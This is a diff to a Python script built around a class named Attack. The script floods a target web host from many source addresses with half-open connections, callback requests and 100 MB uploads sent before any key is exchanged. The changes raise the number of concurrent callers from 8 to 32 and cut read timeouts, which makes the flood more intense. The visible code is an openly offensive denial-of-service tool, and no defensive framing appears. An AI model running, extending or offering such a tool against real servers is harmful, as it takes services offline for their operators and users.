@@ -16,7 +16,7 @@ from collections.abc import Callable
 
 HALF_OPEN = 50  # connections of each address
 LARGE = b"x" * 60_000
-UPLOADS = 4
+UPLOADS, CALLERS = 4, 32  # at a time
 
 
 class Attack:
@@ -63,10 +63,9 @@ class Attack:
         with socket.create_connection((self.host, 80), 3, (source, 0)) as way:
             way.sendall(call)
             self.spend("callbacks", len(call))
-            way.settimeout(1)
+            way.settimeout(0.5)
             with contextlib.suppress(OSError):
-                while way.recv(65536):
-                    pass
+                way.recv(65536)
 
     def uploads(self, sources: list[str]) -> None:
         """Bodies of 100 MB before anybody has seen a key."""
@@ -120,7 +119,7 @@ def main() -> None:
     attack = Attack(host, domain, uuid, float(seconds), float(megabits))
     kinds: list[tuple[Callable[[list[str]], None], list[str]]] = [
         (attack.half_open, attack.sources),
-        *((attack.callbacks, attack.sources[n::8]) for n in range(8)),
+        *((attack.callbacks, attack.sources[n::CALLERS]) for n in range(CALLERS)),
         *((attack.uploads, attack.sources[n : n + 1]) for n in range(UPLOADS)),
     ]
     threads = [threading.Thread(target=kind, args=(own,)) for kind, own in kinds]
